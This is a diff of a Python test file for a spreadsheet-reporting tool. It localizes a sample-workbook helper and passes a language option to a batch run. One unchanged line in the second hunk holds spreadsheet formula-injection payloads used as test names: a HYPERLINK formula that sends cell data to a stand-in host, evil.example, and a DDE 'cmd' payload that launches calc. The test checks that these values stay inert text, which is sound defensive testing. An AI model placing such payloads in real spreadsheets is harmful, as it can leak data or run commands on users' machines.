@@ -142,9 +142,12 @@ def _renamed_sample(tmp_path, names: dict) -> "Path":
     if not paths.SAMPLE_WORKBOOK.exists():
         pytest.skip(f"needs the bundled sample {paths.SAMPLE_WORKBOOK.relative_to(paths.ROOT)}")
     book = openpyxl.load_workbook(paths.SAMPLE_WORKBOOK)
-    sheet = book["stakeholders"]
+    from partnerlab import sample, schema
+
+    spec = schema.sheet("stakeholders")  # the sample is written with the Spanish template
+    sheet = book[spec.name(sample.LANG)]
     header = [c.value for c in sheet[1]]
-    id_col, name_col = header.index("id") + 1, header.index("name") + 1
+    id_col, name_col = header.index("id") + 1, header.index(spec.column("name").header(sample.LANG)) + 1
     found = set()
     for r in range(2, sheet.max_row + 1):
         sid = sheet.cell(row=r, column=id_col).value
@@ -169,7 +172,7 @@ def test_formula_names_from_a_real_report_stay_text(tmp_path):
     hostile = {"SE2030": '=HYPERLINK("http://evil.example/?"&A1,"Click")', "BID": "@SUM(1+1)*cmd|' /C calc'!A0"}
     path = _renamed_sample(tmp_path, hostile)
     jobs = [j for j in default_batch(load_workbook(path)) if j.name == "stakeholder_map"]
-    result = batch.run_batch(path, tmp_path / "out", job_list=jobs, jobs=1, progress=False)
+    result = batch.run_batch(path, tmp_path / "out", job_list=jobs, jobs=1, lang="en", progress=False)
     assert result.exit_code == 0, result.reports
     out = result.out / "findings.xlsx"
     sheet = openpyxl.load_workbook(out)["critical_group"]
